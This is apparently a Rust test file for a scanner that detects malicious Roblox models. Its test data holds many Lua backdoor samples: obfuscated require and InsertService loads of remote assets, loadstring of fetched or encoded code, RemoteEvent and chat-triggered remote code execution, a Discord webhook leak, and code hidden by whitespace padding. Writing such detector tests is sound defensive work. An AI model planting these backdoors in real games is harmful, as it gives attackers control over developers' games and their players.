//! Disguises whose author had not seen the rules.

use super::{TOOLBOX, found, model_with, text};
use rezkit::roblox::{Document, Id, Value};

/// The rules that a model breaks.
fn rules(model: &[u8]) -> Vec<&'static str> {
    found(model, TOOLBOX).into_iter().map(|one| one.rule).collect()
}

/// Each sample is found by this rule, and maybe by others.
const SOURCES: &[(&str, &str)] = &[
    (
        "SCR104",
        r#"local part = script.Parent
part.Anchored = true
require(0x4F3E2D1A)"#,
    ),
    ("SCR104", r#"require(5000000000 + 12345678 - 0x10)"#),
    (
        "SCR104",
        r#"local a, b = "9876", "54321"
require(tonumber(a .. b))"#,
    ),
    ("SCR104", r#"require(tonumber(script.Parent.Name:match("%d+")))"#),
    (
        "SCR104",
        r#"local load = require
local id = 9876543210
load(id)"#,
    ),
    ("SCR121", r#"pcall(require, 9876543210)"#),
    ("SCR121", r#"coroutine.wrap(require)(9876543210)"#),
    (
        "SCR107",
        r#"local t = { require }
t[1](9876543210)"#,
    ),
    ("SCR107", r#"(function(f, n) f(n) end)(require, 9876543210)"#),
    (
        "SCR104",
        r#"local p = script.Parent
require(p.BrickColor.Number * 1e7 + p.Position.X)"#,
    ),
    (
        "SCR104",
        r#"local info = game:GetService("MarketplaceService"):GetProductInfo(1234567)
require(tonumber(info.Description))"#,
    ),
    ("SCR104", r#"getfenv()["\114\101\113\117\105\114\101"](0x4F3E2D1A)"#),
    (
        "SCR102",
        r#"local e = getfenv(0)
e[("eriuqer"):reverse()](9876543210)"#,
    ),
    (
        "SCR106",
        r#"for name, value in pairs(getfenv()) do
	if #name == 7 and name:byte() == 114 then value(9876543210) end
end"#,
    ),
    ("SCR102", r#"getfenv()[("%s%s"):format("req", "uire")](9876543210)"#),
    (
        "SCR102",
        r#"local n = table.concat({"r","e","q","u","i","r","e"})
getfenv()[n](9876543210)"#,
    ),
    (
        "SCR102",
        r#"local n = string.gsub("r~e~q~u~i~r~e", "~", "")
getfenv()[n](9876543210)"#,
    ),
    (
        "SCR101",
        r#"getfenv()["\u{72}\x65\z
   \x71uire"](9876543210)"#,
    ),
    (
        "SCR106",
        r#"setfenv(1, setmetatable({}, {__index = function(_, k) return getfenv(0)[k:reverse()] end}))
eriuqer(9876543210)"#,
    ),
    (
        "SCR105",
        r#"local h = game:GetService("HttpService")
loadstring(h:GetAsync("https://example.com/a.lua"))()"#,
    ),
    (
        "SCR105",
        r#"local t = {114,101,113,117,105,114,101,40,57,56,55,54,53,52,51,50,49,48,41}
local f = loadstring(string.char(unpack(t)))
f()"#,
    ),
    (
        "SCR106",
        r#"local b = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
local function dec(data)
	data = string.gsub(data, '[^' .. b .. '=]', '')
	return (data:gsub('.', function(x)
		if x == '=' then return '' end
		local r, f = '', (b:find(x) - 1)
		for i = 6, 1, -1 do r = r .. (f % 2 ^ i - f % 2 ^ (i - 1) > 0 and '1' or '0') end
		return r
	end):gsub('%d%d%d?%d?%d?%d?%d?%d?', function(x)
		if #x ~= 8 then return '' end
		local c = 0
		for i = 1, 8 do c = c + (x:sub(i, i) == '1' and 2 ^ (8 - i) or 0) end
		return string.char(c)
	end))
end
getfenv()[dec("cmVxdWlyZQ==")](tonumber(dec("OTg3NjU0MzIxMA==")))"#,
    ),
    (
        "SCR105",
        r#"local d = {88,79,91,95,67,88,79,2,19,18,29,28,31,30,25,24,27,26,3}
local s = ""
for _, v in ipairs(d) do s = s .. string.char(bit32.bxor(v, 42)) end
local f = loadstring or load
f(s)()"#,
    ),
    (
        "SCR104",
        r#"local s = ""
for c in ("<;:9876543"):gmatch(".") do s = s .. string.char(c:byte() - 3) end
return s, require(tonumber(s))"#,
    ),
    (
        "SCR105",
        r#"local r = Instance.new("RemoteEvent", game.ReplicatedStorage)
r.Name = "DefaultChatEvent"
r.OnServerEvent:Connect(function(p, code)
	loadstring(code)()
end)"#,
    ),
    ("SCR101", r#"loadstring("\27\76\117\97\81\0\1\4\8\4\8\0\21\0\0\0")()"#),
    (
        "SCR102",
        r#"local IlIlIIlIlI = game
local lIIlIlIIlI = IlIlIIlIlI["Get" .. "Service"]
local IIIlllIIlI = lIIlIlIIlI(IlIlIIlIlI, "Insert" .. "Service")
IIIlllIIlI["Load" .. "Asset"](IIIlllIIlI, 9876543210).Parent = workspace"#,
    ),
    (
        "SCR123",
        r#"local m = game:GetService("InsertService"):LoadAsset(9876543210)
m:GetChildren()[1].Parent = workspace"#,
    ),
    (
        "SCR102",
        r#"local s = game:GetService(("ecivreStresnI"):reverse())
local k = "\76oad\65sset"
s[k](s, 9876543210).Parent = workspace"#,
    ),
    ("SCR123", r#"game:GetObjects("rbxassetid://9876543210")[1].Parent = game.ServerScriptService"#),
    (
        "SCR125",
        r#"game.Players.PlayerAdded:Connect(function(p)
	game:GetService("TeleportService"):Teleport(9876543210, p)
end)"#,
    ),
    (
        "SCR126",
        r#"local m = game:GetService("MarketplaceService")
while task.wait(30) do
	for _, p in game.Players:GetPlayers() do m:PromptGamePassPurchase(p, 12345678) end
end"#,
    ),
    (
        "SCR124",
        r#"local h = game:GetService("HttpService")
h:PostAsync("https://discord.com/api/webhooks/1/abc", h:JSONEncode({content = game.JobId .. game.PlaceId}))"#,
    ),
    (
        "SCR131",
        r#"if os.time() > 1735689600 then
	script.Parent.Payload.Disabled = false
end"#,
    ),
    (
        "SCR122",
        r#"game.Players.PlayerAdded:Connect(function(p)
	if p.UserId == 1234567890 then
		p.Chatted:Connect(function(m)
			loadstring(m)()
		end)
	end
end)"#,
    ),
    (
        "SCR131",
        r#"game.Players.PlayerAdded:Connect(function(p)
	if p:GetRankInGroup(7654321) >= 254 or p:IsInGroup(1234567) then
		script.Admin:Clone().Parent = p.PlayerGui
	end
end)"#,
    ),
    (
        "SCR121",
        r#"if not game:GetService("RunService"):IsStudio() then
	task.wait(math.random(600, 1200))
	require(9876543210)
end"#,
    ),
    (
        "SCR122",
        r#"local s = Instance.new("Script")
s.Source = "require(" .. 9876543210 .. ")"
s.Parent = game.ServerScriptService"#,
    ),
    (
        "SCR104",
        r#"script.Parent = nil
local id = script.Name:len() * 9876543210
require(id)"#,
    ),
    (
        "SCR102",
        r#"local names = {"Insert", "Service", "Load", "Asset"}
local s = game:GetService(names[1] .. names[2])
s[names[3] .. names[4]](s, 9876543210).Parent = workspace"#,
    ),
    (
        "SCR107",
        r#"_G.load = require
local g = _G
g["lo" .. "ad"](9876543210)"#,
    ),
    (
        "SCR107",
        r#"local f = select(2, 0, require)
f(tonumber("0x" .. "24CB016EA"))"#,
    ),
    (
        "SCR104",
        r#"local e = getfenv()
local k = [[require]]
e[k](tonumber([[9876543210]]))"#,
    ),
];

#[test]
fn disguises_in_one_script_are_found() {
    for (rule, source) in SOURCES {
        let rules = rules(&model_with(source, |_| ()));
        assert!(rules.contains(rule), "{source}: {rules:?}");
    }
}

const LOAD: &str = "require(9876543210)";

#[test]
fn layouts_that_hide_are_found() {
    let right = format!("print('A door')\n{}{LOAD}\nlocal door = script.Parent", " ".repeat(420));
    let below = format!("local door = script.Parent\n{}{LOAD}", "\n".repeat(900));
    let permission = "Permission is granted to use this script in any game.\n".repeat(40);
    let between = format!("--[[\n{permission}]] {LOAD} --[[\n{permission}]]\n");
    for source in [right, below, between] {
        assert_eq!(rules(&model_with(&source, |_| ())), ["SCR111", "SCR121"], "{source}");
    }
}

/// A model with a script and a child of it.
fn with_child(source: &str, class: &str, values: &[(&str, Value<'static>)]) -> Vec<u8> {
    model_with(source, |document| {
        let child = child_of_script(document, class);
        for (name, value) in values {
            document.set(child, name, value.clone()).unwrap();
        }
    })
}

fn child_of_script(document: &mut Document, class: &str) -> Id {
    let script = document.find("Model/Script").unwrap();
    document.create(Some(script), class).unwrap()
}

#[test]
fn values_that_hide_are_found() {
    let value = [("Name", text("Settings")), ("Value", Value::Float64(9_876_543_210.0))];
    let number = with_child("require(script.Settings.Value)", "NumberValue", &value);
    assert!(rules(&number).contains(&"SCR104"));
    let code = "for _, p in game.Players:GetPlayers() do p:Kick('x') end require(9876543210)";
    let label = with_child("loadstring(script.TextLabel.Text)()", "TextLabel", &[("Text", text(code))]);
    assert_eq!(rules(&label), ["SCR122", "SCR141"]);
    let compiled = "G0x1YVEAAQQIBAgAEAAAAEA".repeat(30);
    let compiled = with_child("", "StringValue", &[("Value", text(&compiled))]);
    assert_eq!(rules(&compiled), ["SCR141"]);
    let hexadecimal = LOAD.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let decoder =
        "local s = script.Value.Value:gsub('%x%x', function(h) return string.char(tonumber(h, 16)) end)
        loadstring(s)()";
    assert_eq!(
        rules(&with_child(decoder, "StringValue", &[("Value", text(&hexadecimal))])),
        ["SCR105", "SCR122", "SCR141"]
    );
}

#[test]
fn attributes_that_hide_are_found() {
    let with = |source: &str, name: &str, value: Value<'static>| {
        model_with(source, |document| {
            let script = document.find("Model/Script").unwrap();
            document.set_attribute(script, name, value).unwrap();
        })
    };
    let number = Value::Float64(9_876_543_210.0);
    let number = with("require(script:GetAttribute('Version')).load()", "Version", number);
    assert!(rules(&number).contains(&"SCR104"));
    let backwards = LOAD.chars().rev().collect::<String>();
    let code = with("loadstring(string.reverse(script:GetAttribute('Data')))()", "Data", text(&backwards));
    assert_eq!(rules(&code), ["SCR105", "SCR122", "SCR141"]);
}

#[test]
fn names_that_hide_are_found() {
    let source = "local s = '' for _, c in script:GetChildren() do s ..= c.Name end loadstring(s)()";
    let names = model_with(source, |document| {
        for name in ["requi", "re(98765", "43210)"] {
            let folder = child_of_script(document, "Folder");
            document.set(folder, "Name", text(name)).unwrap();
        }
    });
    assert_eq!(rules(&names), ["SCR105", "SCR122"]);
}

/// A script that puts itself into every part.
#[test]
fn copies_are_found() {
    let source =
        "for _, v in game:GetDescendants() do if v:IsA('BasePart') then script:Clone().Parent = v end end";
    assert_eq!(rules(&model_with(source, |_| ())), ["SCR127"]);
}
